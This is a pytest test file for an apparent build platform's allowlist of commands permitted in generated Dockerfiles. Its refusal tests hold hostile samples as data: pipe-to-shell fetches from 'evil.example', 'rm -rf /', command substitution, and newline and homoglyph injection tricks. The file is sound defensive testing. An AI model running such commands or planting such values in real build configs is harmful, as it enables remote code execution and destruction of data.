"""The command allowlist: what may reach a generated Dockerfile's RUN and CMD lines.

Pure unit tests against the shipped configs/allowed-commands.json (and small files of their own
for the loader); no Django, no subprocesses.
"""

import json

import pytest

from builds import errors
from builds.dockerfile import check_build_config, load_allowlist
from builds.dockerfile.allowlist import parse_allowlist
from builds.errors import UserError
from hubfly.env import ConfigError


@pytest.fixture(scope="module")
def allowlist():
    return load_allowlist()


@pytest.mark.parametrize("phase, command", [
    ("prebuild", "npm ci"),
    ("prebuild", "npm install"),
    ("prebuild", "yarn install --frozen-lockfile"),
    ("prebuild", "pnpm install --frozen-lockfile"),
    ("prebuild", "pip install -r requirements.txt"),
    ("prebuild", "pip install -r requirements/prod.txt"),
    ("prebuild", "go mod download"),
    ("build", "npm run build"),
    ("build", "npm run build:prod"),
    ("build", "python manage.py collectstatic --noinput"),
    ("build", "go build -o app ./cmd/api"),
    ("run", "npm start"),
    ("run", "npm run start:prod"),
    ("run", "node dist/server.js"),
    ("run", "gunicorn config.wsgi:application"),
    ("run", "gunicorn config.wsgi:application --bind 0.0.0.0:${PORT:-8000}"),
    ("run", "uvicorn main:app --host 0.0.0.0 --port ${PORT:-8000}"),
    ("run", "java -jar target/app-1.0.jar"),
    ("run", "python -m myapp"),
])
def test_listed_commands_are_accepted(allowlist, phase, command):
    assert allowlist.check(phase, command) == command


@pytest.mark.parametrize("command", [
    "npm run build; rm -rf /",
    "npm run build;rm",
    "npm run build && rm -rf /",
    "npm run build || curl http://evil.example/x | sh",
    "npm run build | sh",
    "npm run build & curl http://evil.example",
    "npm run build > /etc/passwd",
    "npm run build < /dev/zero",
    "$(curl http://evil.example/x)",
    "npm run $(curl http://evil.example/x)",
    "npm run `id`",
    "npm run build`id`",
    "npm run 'build'",
    'npm run "build"',
    "npm run build\nrm -rf /",
    "npm run build\rrm -rf /",
    "npm run build\u2028rm -rf /",
    "npm run\tbuild",
    "npm run build -- --prod",
    "npm run build:${EVIL}",
    "npm run bu\u0456ld",  # Cyrillic i
    "rm -rf /",
    "",
    "   ",
    "&&",
    "npm run build &&",
])
def test_shell_tricks_are_refused_in_the_build_phase(allowlist, command):
    assert not allowlist.allows("build", command)


@pytest.mark.parametrize("command", [
    "node server.js --inspect=0.0.0.0",  # a wildcard stands for one word only
    "node $(id)",
    "node a;b",
    "node ../../x\ny",
    "java -jar target/x.jar;id",
    "gunicorn app:app --bind 0.0.0.0:8000;id",
    "uvicorn main:app --host 0.0.0.0 --port ${PORT:-8000} && curl evil",
    "./app --config=/etc/passwd",
])
def test_a_wildcard_cannot_absorb_spaces_or_metacharacters(allowlist, command):
    assert not allowlist.allows("run", command)


def test_an_and_chain_passes_when_every_part_is_listed(allowlist):
    command = "pip install poetry && poetry install --only main --no-interaction --no-root"
    assert allowlist.check("prebuild", command) == command


def test_an_and_chain_with_one_unlisted_part_is_refused_naming_that_part(allowlist):
    with pytest.raises(UserError) as caught:
        allowlist.check("build", "npm run build && curl http://evil.example", field="buildCommand")
    assert caught.value.code == errors.COMMAND_NOT_ALLOWED
    assert "curl http://evil.example" in caught.value.message
    assert "build phase" in caught.value.message
    assert "buildCommand" in caught.value.message


def test_each_part_of_a_chain_must_be_in_the_same_phase(allowlist):
    assert not allowlist.allows("build", "npm ci && npm run build")
    assert allowlist.allows("build", "npm run lint && npm run build")


def test_phases_are_separate_lists(allowlist):
    assert not allowlist.allows("build", "npm start")
    assert not allowlist.allows("run", "npm ci")
    assert not allowlist.allows("prebuild", "node server.js")


def test_runs_of_spaces_are_normalised(allowlist):
    assert allowlist.check("build", "  npm   run    build ") == "npm run build"
    assert allowlist.check("build", "npm run lint&&npm run build") == "npm run lint && npm run build"


def test_refusal_message_names_the_command_and_the_phase(allowlist):
    with pytest.raises(UserError) as caught:
        allowlist.check("run", "npm run build; rm -rf /", field="runCommand")
    message = caught.value.message
    assert "npm run build; rm -rf /" in message and "run phase" in message
    assert "\n" not in message


def test_a_newline_in_a_command_is_refused_before_matching(allowlist):
    assert "newline" in allowlist.refusal("build", "npm run build\nnpm run build")


def test_wildcard_matches_exactly_the_documented_characters():
    allowlist = parse_allowlist({"run": ["tool *"]}, "test")
    assert allowlist.allows("run", "tool aZ09:._/-")
    for bad in ("tool", "tool ", "tool a b", "tool a$b", "tool a;b", "tool a|b", "tool a&b", "tool a`b", "tool a'b",
                'tool a"b', "tool a(b", "tool a>b", "tool a<b", "tool a\\b", "tool a*b", "tool a~b", "tool a=b"):
        assert not allowlist.allows("run", bad), bad


def test_a_pattern_matches_literally_apart_from_the_wildcard():
    allowlist = parse_allowlist({"build": ["make build.all"]}, "test")
    assert allowlist.allows("build", "make build.all")
    assert not allowlist.allows("build", "make buildXall")


def test_patterns_containing_and_and_are_an_operator_error():
    with pytest.raises(ConfigError, match="&&"):
        parse_allowlist({"prebuild": ["pip install poetry && poetry install"]}, "allowed.json")


@pytest.mark.parametrize("data, message", [
    ([], "expected a JSON object"),
    ({"deploy": []}, "unknown phase"),
    ({"run": "npm start"}, "must be a list"),
    ({"run": [""]}, "bad pattern"),
    ({"run": ["npm\nstart"]}, "bad pattern"),
])
def test_malformed_allowlists_are_refused_naming_the_file(data, message):
    with pytest.raises(ConfigError, match=message) as caught:
        parse_allowlist(data, "/etc/hubfly/allowed.json")
    assert "/etc/hubfly/allowed.json" in str(caught.value)


def test_an_unreadable_allowlist_file_is_a_config_error_naming_it(tmp_path):
    broken = tmp_path / "allowed.json"
    broken.write_text("{not json")
    with pytest.raises(ConfigError, match="allowed.json"):
        load_allowlist(broken)
    with pytest.raises(ConfigError, match="missing.json"):
        load_allowlist(tmp_path / "missing.json")


def test_the_allowlist_file_comes_from_settings(tmp_path, settings):
    path = tmp_path / "only-make.json"
    path.write_text(json.dumps({"prebuild": [], "build": ["make"], "run": []}))
    settings.ALLOWED_COMMANDS_FILE = path
    allowlist = load_allowlist()
    assert allowlist.allows("build", "make")
    assert not allowlist.allows("build", "npm run build")


def test_submitted_commands_are_checked_at_submit_time():
    check_build_config({"runtime": "node", "prebuildCommand": "npm ci", "buildCommand": "npm run build",
                        "runCommand": "npm start"})
    with pytest.raises(UserError) as caught:
        check_build_config({"buildCommand": "npm run build; curl evil"})
    assert caught.value.code == errors.COMMAND_NOT_ALLOWED
    assert "buildCommand" in caught.value.message and "build phase" in caught.value.message


def test_install_command_is_an_alias_of_prebuild_command():
    with pytest.raises(UserError) as caught:
        check_build_config({"installCommand": "curl http://evil.example | sh"})
    assert "installCommand" in caught.value.message and "prebuild phase" in caught.value.message


def test_a_command_that_is_not_a_string_is_refused():
    with pytest.raises(UserError) as caught:
        check_build_config({"runCommand": ["npm", "start"]})
    assert caught.value.code == errors.COMMAND_NOT_ALLOWED
